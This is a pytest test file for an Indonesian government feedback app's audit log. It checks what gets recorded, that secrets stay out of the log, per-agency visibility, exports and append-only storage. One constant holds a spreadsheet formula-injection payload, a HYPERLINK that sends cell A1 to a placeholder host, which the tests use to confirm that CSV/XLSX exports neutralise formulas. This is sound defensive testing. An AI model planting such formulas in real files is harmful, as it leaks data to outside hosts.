"""The audit log as administrators meet it: changes made through the real pages are
recorded once, with who, when and the changed fields before and after; refused
changes and citizens' answers leave nothing; secrets never reach the log; each
administrator sees their own agency's events; the list exports safely; and no
one can change or remove an event.
"""

from __future__ import annotations

import datetime as dt
import io
import json
import re
import secrets
from zoneinfo import ZoneInfo

import openpyxl
import pandas as pd
import pytest
from sqlalchemy import delete, func, select, text, update
from sqlalchemy.exc import DBAPIError
from sqlalchemy.orm import Session

from feedback_app.audit import AuditLogIsAppendOnly
from feedback_app.designer import service as designer
from feedback_app.models import (
    Agency,
    ApiToken,
    AuditEvent,
    Channel,
    Indicator,
    Response,
    Role,
    ServicePoint,
    Survey,
    SurveyStatus,
    TimeZone,
    Unit,
    User,
)
from feedback_app.models import survey as survey_model
from feedback_app.public.links import ensure_counter_link, ensure_default_survey
from surveys.skm import ELEMENT_KEYS
from tests.conftest import csrf_token, post_form
from tests.factories import Factory
from tests.test_scope import sign_in


@pytest.fixture(autouse=True)
def _fresh_definitions():
    """Published definitions are cached by version id; ids come back after a rollback."""
    survey_model._published.clear()
    yield
    survey_model._published.clear()


@pytest.fixture()
def agency(factory: Factory) -> Agency:
    return factory.agency(name="Pemerintah Kota Tebing Tinggi")


@pytest.fixture()
def manager(app, client, factory, agency) -> User:
    user = factory.user(Role.AGENCY_ADMIN, agency=agency, name="Admin Tebing")
    sign_in(app, client, user)
    return user


def events(session: Session, **where) -> list[AuditEvent]:
    """The events stored now, oldest first, of the given kind."""
    session.expire_all()
    query = select(AuditEvent).order_by(AuditEvent.id)
    for name, value in where.items():
        query = query.where(getattr(AuditEvent, name) == value)
    return list(session.scalars(query))


def count_events(session: Session) -> int:
    session.expire_all()
    return session.scalar(select(func.count()).select_from(AuditEvent))


def everything_logged(session: Session) -> str:
    """Every stored event as text, to search for what must never be there."""
    return json.dumps(
        [
            [e.actor_label, e.entity_label, e.before, e.after, e.path, e.endpoint]
            for e in events(session)
        ],
        ensure_ascii=False,
    )


UNIT_FORM = {"kind": "dinas", "timezone": "WIB", "parent_id": ""}


# --------------------------------------------------------------------------- what is recorded


def test_editing_a_unit_records_who_when_and_the_changed_field(client, session, factory, manager):
    unit = factory.unit(manager.agency, code="DKP", name="Dinas Lama")
    edit = f"/org/units/{unit.id}/edit"
    started = dt.datetime.now(dt.UTC)
    response = post_form(client, edit, {**UNIT_FORM, "code": "DKP", "name": "Dinas Baru"})
    assert response.status_code == 302

    [event] = events(session)
    assert (event.action, event.entity_type, event.entity_id) == ("update", "Unit", unit.id)
    assert event.before == {"name": "Dinas Lama"}
    assert event.after == {"name": "Dinas Baru"}
    assert event.entity_label == "Dinas Baru (DKP)"
    assert event.actor_user_id == manager.id
    assert event.actor_label == f"Admin Tebing <{manager.email}>"
    assert (event.agency_id, event.unit_id) == (manager.agency_id, unit.id)
    assert (event.endpoint, event.path) == ("organisation.units_edit", edit)
    assert started - dt.timedelta(seconds=5) <= event.occurred_at <= dt.datetime.now(dt.UTC)
    # a keyed hash of the address, never the address itself
    assert re.fullmatch(r"[0-9a-f]{32}", event.client_hash)

    page = client.get("/audit/").get_data(as_text=True)
    assert "Dinas Lama" in page and "Dinas Baru" in page and "Admin Tebing" in page

    # saving the form again unchanged records nothing
    assert post_form(client, edit, {**UNIT_FORM, "code": "DKP", "name": "Dinas Baru"}).status_code
    assert len(events(session)) == 1


def test_a_counter_created_switched_off_and_on(client, session, factory, manager):
    unit = factory.unit(manager.agency, name="Dinas Dukcapil")
    data = {"unit_id": unit.id, "code": "L-1", "name": "Loket Satu", "location": "Lantai 1"}
    assert post_form(client, "/org/service-points/new", data).status_code == 302
    point = session.scalar(select(ServicePoint).where(ServicePoint.unit_id == unit.id))
    post_form(client, f"/org/service-points/{point.id}/deactivate", {}, form_url="/org/units/")
    post_form(client, f"/org/service-points/{point.id}/activate", {}, form_url="/org/units/")

    created, off, on = events(session, entity_type="ServicePoint")
    assert (created.action, created.entity_id, created.before) == ("create", point.id, None)
    assert created.after == {
        "id": point.id,
        "unit_id": unit.id,
        "code": "L-1",
        "name": "Loket Satu",
        "location": "Lantai 1",
        "survey_id": None,
        "active": True,
    }
    assert (off.action, off.before, off.after) == (
        "deactivate",
        {"active": True},
        {"active": False},
    )
    assert (on.action, on.before, on.after) == ("activate", {"active": False}, {"active": True})
    assert len(events(session)) == 3
    # the counter belongs to its unit: that is whose administrators see it
    assert {(e.agency_id, e.unit_id) for e in (created, off, on)} == {(unit.agency_id, unit.id)}


def test_editing_an_employee(client, session, factory, manager):
    unit = factory.unit(manager.agency)
    siti = factory.employee(unit, name="Siti Aminah", position="Staf")
    data = {
        "unit_id": unit.id,
        "nip": siti.nip,
        "name": "Siti Aminah",
        "position": "Analis Kependudukan",
        "supervisor_id": "",
    }
    assert post_form(client, f"/org/employees/{siti.id}/edit", data).status_code == 302
    [event] = events(session)
    assert (event.entity_type, event.entity_id, event.action) == ("Employee", siti.id, "update")
    assert (event.before, event.after) == (
        {"position": "Staf"},
        {"position": "Analis Kependudukan"},
    )
    assert event.entity_label == f"Siti Aminah ({siti.nip})"
    assert (event.agency_id, event.unit_id) == (unit.agency_id, unit.id)


def test_a_roster_entry_belongs_to_its_counters_unit(client, session, factory, manager):
    unit = factory.unit(manager.agency, name="Kantor Camat")
    counter = factory.service_point(unit, name="Loket 1")
    officer = factory.employee(factory.unit(manager.agency), name="Andi Petugas")
    data = {
        "employee_id": officer.id,
        "service_point_id": counter.id,
        "starts_at": "2026-03-02T08:00",
        "ends_at": "2026-03-02T16:00",
    }
    assert post_form(client, "/org/roster/new", data).status_code == 302
    [event] = events(session)
    assert (event.entity_type, event.action) == ("RosterEntry", "create")
    # times typed on the unit's clock (WIB), logged in UTC
    assert event.after["starts_at"] == "2026-03-02T01:00:00+00:00"
    assert event.entity_label == (
        f"pegawai #{officer.id} di loket #{counter.id}, 2026-03-02T01:00:00+00:00"
    )
    # the counter's unit, not the officer's
    assert (event.agency_id, event.unit_id) == (manager.agency_id, unit.id)


def user_form(**change) -> dict:
    return {
        "email": "budi@tebing.go.id",
        "name": "Budi Santoso",
        "role": "designer",
        "unit_id": "",
        "employee_id": "",
        "password": "rahasia-budi-77",
        **change,
    }


def test_a_users_role_and_password_changes_without_the_password(client, session, manager):
    assert post_form(client, "/users/new", user_form()).status_code == 302
    budi = session.scalar(select(User).where(User.email == "budi@tebing.go.id"))
    edit = f"/users/{budi.id}/edit"
    assert post_form(client, edit, user_form(role="agency_head", password="")).status_code == 302
    new_password = "rahasia-baru-88"
    form = user_form(role="agency_head", password=new_password)
    assert post_form(client, edit, form).status_code == 302

    created, role, password = events(session, entity_type="User")
    assert created.action == "create" and created.entity_id == budi.id
    assert created.after["role"] == "designer" and created.after["password_hash"] == "***"
    assert created.entity_label == "Budi Santoso <budi@tebing.go.id>"
    assert (role.before, role.after) == ({"role": "designer"}, {"role": "agency_head"})
    # a changed password shows only that it changed
    assert (password.before, password.after) == ({"password_hash": "***"}, {"password_hash": "***"})
    session.expire_all()
    logged = everything_logged(session)
    for secret in ("rahasia-budi-77", new_password, session.get(User, budi.id).password_hash):
        assert secret not in logged
    assert "$argon2" not in logged
    assert len(events(session)) == 3


def test_an_api_token_secret_never_reaches_the_log(client, session, factory, manager):
    page = post_form(client, "/org/api-tokens/new", {"name": "Aplikasi antrean", "unit_id": ""})
    assert page.status_code == 200
    secret = re.search(r'id="secret"[^>]*value="([^"]+)"', page.get_data(as_text=True)).group(1)
    [event] = events(session, entity_type="ApiToken")
    assert event.action == "create" and event.entity_label == "Aplikasi antrean"
    assert event.after["token_hash"] == "***"
    session.expire_all()
    stored = session.get(ApiToken, event.entity_id)
    logged = everything_logged(session)
    assert secret not in logged and stored.token_hash not in logged


def test_publishing_a_survey(app, client, session, factory, agency):
    designer_user = factory.user(Role.DESIGNER, agency=agency, name="Perancang")
    survey = designer.create_survey(
        session,
        agency_id=agency.id,
        name="SKM Loket",
        definition=designer.starting_definition("skm", "SKM Loket"),
    )
    sign_in(app, client, designer_user)
    url = f"/surveys/{survey.id}/publish"
    page = client.get(url).get_data(as_text=True)
    fields = dict(re.findall(r'name="(csrf_token|rev)" (?:type="hidden" )?value="([^"]+)"', page))
    assert client.post(url, data={**fields, "note": "Pertama"}).status_code in (302, 303)

    session.expire_all()
    assert session.get(Survey, survey.id).status == SurveyStatus.PUBLISHED
    [published] = events(session, entity_type="Survey")
    assert published.action == "publish" and published.entity_label == "SKM Loket"
    assert published.before["status"] == "draft" and published.after["status"] == "published"
    assert (
        published.after["current_version_id"] == session.get(Survey, survey.id).current_version_id
    )
    assert published.actor_user_id == designer_user.id and published.agency_id == agency.id
    [version] = events(session, entity_type="SurveyVersion")
    assert version.entity_label == f"versi 1 survei #{survey.id}"
    assert version.action == "update" and version.before["published_at"] is None
    assert version.after["published_at"] is not None and version.after["note"] == "Pertama"
    assert version.agency_id == agency.id  # found through the survey
    assert len(events(session)) == 2


INDICATOR = {
    "name": "Perilaku petugas",
    "scope": "employee",
    "source": "element",
    "question_key": "U7",
    "target": "80,5",
    "comparison": "at_least",
    "period": "quarter",
    "above_margin": "5",
    "below_margin": "1,5",
    "active": "y",
}


def test_defining_and_switching_off_an_indicator(client, session, manager):
    assert post_form(client, "/indikator/baru", INDICATOR).status_code == 302
    found = session.scalar(select(Indicator).where(Indicator.name == "Perilaku petugas"))
    edit = f"/indikator/{found.id}/ubah"
    assert post_form(client, edit, {**INDICATOR, "active": "", "target": "85"}).status_code == 302

    created, switched_off = events(session, entity_type="Indicator")
    assert created.action == "create" and created.after["target"] == "80.50"
    assert created.after["question_key"] == "U7" and created.agency_id == manager.agency_id
    assert switched_off.action == "deactivate"
    assert switched_off.before == {"target": "80.50", "active": True}
    assert switched_off.after == {"target": "85.00", "active": False}
    assert len(events(session)) == 2


def flagged_response(session: Session, factory: Factory, unit: Unit) -> Response:
    version = designer.working_version(
        session,
        designer.create_survey(
            session,
            agency_id=unit.agency_id,
            name="Survei",
            definition=designer.starting_definition("skm", "Survei"),
        ),
    )
    return factory._add(
        Response(
            agency_id=unit.agency_id,
            unit_id=unit.id,
            survey_version_id=version.id,
            channel=Channel.QR,
            timezone=unit.timezone,
            language="id",
            answers={"U1": 4, "saran": "Antrean terlalu panjang"},
            idempotency_key=secrets.token_hex(16),
            answers_digest=secrets.token_hex(32),
            flagged=True,
            flag_reason="identical_burst",
        )
    )


def test_clearing_and_setting_a_flag_records_only_the_flag(client, session, factory, manager):
    unit = factory.unit(manager.agency)
    answer = flagged_response(session, factory, unit)
    token = csrf_token(client, "/responses/flagged")
    assert client.post(f"/responses/{answer.id}/clear", data={"csrf_token": token}).status_code
    assert client.post(f"/responses/{answer.id}/flag", data={"csrf_token": token}).status_code

    # the counts move in between, in several flushes: still one event per review
    cleared, flagged = events(session)
    assert (cleared.action, cleared.entity_type, cleared.entity_id) == (
        "unflag",
        "Response",
        answer.id,
    )
    assert cleared.before == {
        "flagged": True,
        "flag_reviewed_at": None,
        "flag_reviewed_by_id": None,
    }
    assert cleared.after["flagged"] is False
    assert cleared.after["flag_reviewed_by_id"] == manager.id
    assert flagged.action == "flag" and flagged.after["flagged"] is True
    assert (cleared.agency_id, cleared.unit_id) == (unit.agency_id, unit.id)
    assert "Antrean terlalu panjang" not in everything_logged(session)


# --------------------------------------------------------------------------- what is not


def test_refused_changes_leave_no_event(app, client, session, factory, manager):
    unit = factory.unit(manager.agency, code="DKP", name="Dinas Tetap")
    other = factory.unit(factory.agency(), name="Dinas Lain")
    edit = f"/org/units/{unit.id}/edit"
    # a validation error
    refused = post_form(client, edit, {**UNIT_FORM, "code": "DKP", "name": ""})
    assert refused.status_code == 422
    # another agency's unit does not exist for this user
    token = csrf_token(client, "/org/units/")
    assert (
        client.post(f"/org/units/{other.id}/deactivate", data={"csrf_token": token}).status_code
        == 404
    )
    # no form token
    assert client.post(f"/org/units/{unit.id}/deactivate").status_code == 400
    # a role without the permission
    sign_in(app, client, factory.user(Role.DESIGNER, agency=manager.agency))
    token = csrf_token(client, "/")
    assert (
        client.post(f"/org/units/{unit.id}/deactivate", data={"csrf_token": token}).status_code
        == 403
    )
    assert count_events(session) == 0
    session.expire_all()
    assert session.get(Unit, unit.id).active and session.get(Unit, other.id).active


def test_a_citizens_answer_writes_no_event(client, session, factory, agency):
    unit = factory.unit(agency)
    point = factory.service_point(unit)
    service = factory.service(unit)
    ensure_default_survey(session, agency.id)
    link = ensure_counter_link(session, point)
    session.flush()
    before = count_events(session)
    url = f"/s/{link.token}"
    page = client.get(url).get_data(as_text=True)
    fields = dict(
        re.findall(r'name="(csrf_token|form_key)" (?:type="hidden" )?value="([^"]+)"', page)
    )
    answers = {"layanan": str(service.id), **dict.fromkeys(ELEMENT_KEYS, "4")}
    assert client.post(url, data={**fields, **answers}).status_code == 303
    session.expire_all()
    assert session.scalar(select(func.count()).select_from(Response)) == 1
    assert count_events(session) == before


def test_a_command_is_recorded_as_the_command(app, session):
    result = app.test_cli_runner().invoke(
        args=["create-admin", "--email", "root@tebing.go.id", "--name", "Root"],
        env={"ADMIN_PASSWORD": "kunci-induk-2026"},
    )
    assert result.exit_code == 0, result.output
    [event] = events(session, entity_type="User")
    assert event.action == "create" and event.actor_user_id is None
    assert event.actor_label.startswith("CLI: ") and event.actor_label.endswith("create-admin")
    assert event.after["password_hash"] == "***" and event.agency_id is None
    assert "kunci-induk-2026" not in everything_logged(session)


# --------------------------------------------------------------------------- who sees what


def test_each_administrator_sees_their_own_agencys_events(app, client, session, factory):
    here = factory.agency(name="Kota Sini")
    there = factory.agency(name="Kota Sana")
    root = factory.unit(here, code="ROOT", name="Dinas Induk")
    mine = factory.unit(here, parent=root, code="MINE", name="Bidang Saya")
    sibling = factory.unit(here, parent=root, code="SIB", name="Bidang Sebelah")
    far = factory.unit(there, code="FAR", name="Dinas Jauh")
    sign_in(app, client, factory.user(Role.ADMIN, name="Admin Sistem"))
    for unit in (mine, sibling, far):
        data = {**UNIT_FORM, "code": unit.code, "name": unit.name + " Baru"}
        data["parent_id"] = unit.parent_id or ""
        assert post_form(client, f"/org/units/{unit.id}/edit", data).status_code == 302
    far_event = events(session, entity_id=far.id)[0]

    # the installation administrator sees all three
    page = client.get("/audit/").get_data(as_text=True)
    assert all(n in page for n in ("Bidang Saya Baru", "Bidang Sebelah Baru", "Dinas Jauh Baru"))

    # the agency's administrator: their agency only, and no way to another's
    sign_in(app, client, factory.user(Role.AGENCY_ADMIN, agency=here))
    page = client.get("/audit/").get_data(as_text=True)
    assert "Bidang Saya Baru" in page and "Bidang Sebelah Baru" in page
    assert "Dinas Jauh" not in page
    history = client.get(f"/audit/?entity_type=Unit&entity_id={far.id}").get_data(as_text=True)
    assert "Dinas Jauh" not in history and "0 kejadian" in history
    assert "Dinas Jauh" not in client.get(f"/audit/?agency={there.id}").get_data(as_text=True)
    assert "Dinas Jauh" not in client.get("/audit/export.csv").get_data(as_text=True)
    assert f'id="e-{far_event.id}"' not in page

    # limited to a unit: that subtree only
    sign_in(app, client, factory.user(Role.AGENCY_ADMIN, unit=mine))
    page = client.get("/audit/").get_data(as_text=True)
    assert "Bidang Saya Baru" in page
    assert "Bidang Sebelah" not in page and "Dinas Jauh" not in page

    # roles that do not manage the agency are refused the page and the file
    sign_in(app, client, factory.user(Role.AGENCY_HEAD, agency=here))
    assert client.get("/audit/").status_code == 403
    assert client.get("/audit/export.xlsx").status_code == 403


def test_anonymous_visitors_are_sent_to_sign_in(client):
    for url in ("/audit/", "/audit/export.csv"):
        response = client.get(url)
        assert response.status_code == 302 and response.headers["Location"].startswith("/login")


def test_an_events_record_history_and_the_filters(client, session, factory, manager):
    unit = factory.unit(manager.agency, code="DKP", name="Dinas A")
    other = factory.unit(manager.agency, code="LAIN", name="Dinas Lain")
    for name in ("Dinas B", "Dinas C"):
        post_form(client, f"/org/units/{unit.id}/edit", {**UNIT_FORM, "code": "DKP", "name": name})
    post_form(client, f"/org/units/{other.id}/deactivate", {}, form_url="/org/units/")

    page = client.get("/audit/").get_data(as_text=True)
    history = f"/audit/?entity_type=Unit&amp;entity_id={unit.id}"
    assert history in page  # each event links to its record's history
    shown = client.get(history.replace("&amp;", "&")).get_data(as_text=True)
    assert "2 kejadian" in shown and "Dinas Lain" not in shown
    assert "Riwayat Unit: Dinas C (DKP)" in shown

    assert "1 kejadian" in client.get("/audit/?action=deactivate").get_data(as_text=True)
    # text in a name as it was, before it changed
    assert "1 kejadian" in client.get("/audit/?q=dinas+a&action=update").get_data(as_text=True)
    assert "2 kejadian" in client.get("/audit/?q=Dinas+B").get_data(as_text=True)
    assert "3 kejadian" in client.get("/audit/?actor=admin+tebing").get_data(as_text=True)
    assert "0 kejadian" in client.get("/audit/?actor=orang+lain").get_data(as_text=True)
    # dates are the viewer's: the agency's clock (WIB here), a day ahead of UTC after 17:00
    today = dt.datetime.now(ZoneInfo(TimeZone.WIB.iana)).date()
    tomorrow = (today + dt.timedelta(days=1)).isoformat()
    assert "0 kejadian" in client.get(f"/audit/?date_from={tomorrow}").get_data(as_text=True)
    yesterday = (today - dt.timedelta(days=1)).isoformat()
    window = f"/audit/?date_from={yesterday}&date_to={tomorrow}&entity_type=Unit"
    assert "3 kejadian" in client.get(window).get_data(as_text=True)
    refused = client.get("/audit/?date_from=kemarin")
    assert refused.status_code == 200 and "Tanggal tidak valid" in refused.get_data(as_text=True)


# --------------------------------------------------------------------------- exports


def test_downloads_of_results_are_recorded(app, client, session, factory, agency):
    unit = factory.unit(agency, name="Dinas Kesehatan")
    head = factory.user(Role.AGENCY_HEAD, agency=agency, name="Kepala Dinas")
    sign_in(app, client, head)
    token = csrf_token(client, "/ekspor/")
    data = {
        "csrf_token": token,
        "kind": "summary",
        "format": "csv",
        "period": "2025",
        "unit": str(unit.id),
        "delimiter": ";",
        "values": "labels",
    }
    response = client.post("/ekspor/", data=data, buffered=True)
    assert response.status_code == 200 and "attachment" in response.headers["Content-Disposition"]
    [event] = events(session, action="export")
    assert event.entity_type == "Export" and event.actor_user_id == head.id
    assert (event.agency_id, event.unit_id) == (agency.id, unit.id)
    assert event.after["via"] == "export"
    assert (event.after["kind"], event.after["format"], event.after["mode"]) == (
        "summary",
        "csv",
        "direct",
    )
    assert event.after["scope"]["unit"] == "Dinas Kesehatan"
    assert event.entity_label.startswith("summary.csv · ")

    # the organisation's own records, downloaded as a filled-in import template
    sign_in(app, client, factory.user(Role.AGENCY_ADMIN, agency=agency))
    assert client.get("/import/template/employees.xlsx?data=1").status_code == 200
    assert client.get("/import/template/employees.xlsx").status_code == 200  # empty: no event
    *_, template = events(session, action="export")
    assert template.entity_label == "impor-pegawai-data.xlsx" and template.agency_id == agency.id
    assert len(events(session, action="export")) == 2


def test_reads_through_the_api_are_recorded_with_the_token(client, session, factory, agency):
    from feedback_app.staff.service import create_api_token

    token, secret = create_api_token(session, agency_id=agency.id, unit_id=None, name="Dasbor kota")
    session.flush()
    response = client.get(
        "/api/v1/read/scores",
        query_string={"period": "2025"},
        headers={"Authorization": f"Bearer {secret}"},
    )
    assert response.status_code == 200
    [event] = events(session)
    assert event.action == "export" and event.after["via"] == "api.scores"
    assert (
        event.actor_user_id is None and event.actor_label == f"Token API Dasbor kota (#{token.id})"
    )
    assert secret not in everything_logged(session)


PAYLOAD = '=HYPERLINK("http://contoh.invalid/?x="&A1,"klik")'


def test_the_log_exports_as_csv_and_xlsx_with_formulas_inert(client, session, factory, manager):
    unit = factory.unit(manager.agency, code="DKP", name="Dinas Awal")
    edit = f"/org/units/{unit.id}/edit"
    assert post_form(client, edit, {**UNIT_FORM, "code": "DKP", "name": PAYLOAD}).status_code == 302
    assert post_form(client, edit, {**UNIT_FORM, "code": "DKP", "name": "Dinas Akhir"}).status_code

    response = client.get("/audit/export.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    table = pd.read_csv(io.BytesIO(response.data), sep=";", encoding="utf-8-sig", dtype=str)
    assert len(table) == 2  # the export itself is logged, after the rows it wrote
    newest, oldest = table.to_dict("records")
    assert newest["Nama data"] == "Dinas Akhir (DKP)" and newest["Tindakan"] == "Diubah"
    assert newest["Jenis data"] == "Unit" and newest["Pelaku"].startswith("Admin Tebing")
    assert json.loads(oldest["Sebelum"]) == {"name": "Dinas Awal"}
    assert json.loads(oldest["Sesudah"]) == {"name": PAYLOAD}
    # the name a spreadsheet would run is written as text
    assert newest["Sebelum"] == json.dumps({"name": PAYLOAD}, ensure_ascii=False)
    assert oldest["Nama data"] == "'" + PAYLOAD + " (DKP)"

    response = client.get("/audit/export.xlsx?entity_type=Unit")
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.data)).active
    rows = list(sheet.iter_rows(values_only=True))
    header = list(rows[0])
    assert len(rows) == 3 and "Nama data" in header
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value is not None]
    assert all(c.data_type != "f" for c in cells)
    labels = [row[header.index("Nama data")] for row in rows[1:]]
    assert labels == ["Dinas Akhir (DKP)", "'" + PAYLOAD + " (DKP)"]

    # both downloads are in the log
    exported = events(session, action="export")
    assert [e.entity_label for e in exported] == ["audit.csv", "audit.xlsx"]
    assert exported[1].after["filters"] == {"entity_type": "Unit"}
    assert client.get("/audit/export.pdf").status_code == 404


# --------------------------------------------------------------------------- append-only


def test_events_cannot_be_changed_or_removed(client, session, factory, manager):
    unit = factory.unit(manager.agency, code="DKP", name="Dinas A")
    post_form(client, f"/org/units/{unit.id}/edit", {**UNIT_FORM, "code": "DKP", "name": "Dinas B"})
    [event] = events(session)

    with pytest.raises(AuditLogIsAppendOnly), session.begin_nested():
        event.after = {"name": "Dinas Palsu"}
        session.flush()
    session.expire_all()
    with pytest.raises(AuditLogIsAppendOnly), session.begin_nested():
        session.delete(session.get(AuditEvent, event.id))
        session.flush()

    # the app's own sessions also refuse bulk statements on the log
    from feedback_app.db import get_session

    with client.application.app_context():
        app_session = get_session()
        with pytest.raises(AuditLogIsAppendOnly):
            app_session.execute(update(AuditEvent).values(action="delete"))
        with pytest.raises(AuditLogIsAppendOnly):
            app_session.execute(delete(AuditEvent))

    # and the database itself, whatever the client
    for statement in ("UPDATE audit_events SET action = 'x'", "DELETE FROM audit_events"):
        with pytest.raises(DBAPIError, match="append-only"), session.begin_nested():
            session.execute(text(statement))
    session.expire_all()
    [same] = events(session)
    assert (same.action, same.after) == ("update", {"name": "Dinas B"})


def test_no_page_changes_an_event(app):
    rules = [r for r in app.url_map.iter_rules() if r.endpoint.startswith("audit.")]
    assert {r.endpoint for r in rules} == {"audit.index", "audit.export"}
    assert all(r.methods <= {"GET", "HEAD", "OPTIONS"} for r in rules)


# --------------------------------------------------------------------------- bulk statements


def test_removing_populations_in_bulk_records_each_row(app, client, session, factory, agency):
    unit = factory.unit(agency, code="DKP", name="Dinas Populasi")
    sign_in(app, client, factory.user(Role.AGENCY_HEAD, agency=agency))
    url = "/dashboard/populasi"
    assert post_form(client, url, {f"pop-{unit.id}": "500"}).status_code == 303
    # an emptied figure is removed with one DELETE statement
    assert post_form(client, url, {f"pop-{unit.id}": ""}).status_code == 303
    created, removed = events(session, entity_type="UnitPopulation")
    assert created.action == "create" and created.after["population"] == 500
    assert removed.action == "delete" and removed.before["population"] == 500
    assert removed.entity_id == created.entity_id
    assert (removed.agency_id, removed.unit_id) == (unit.agency_id, unit.id)
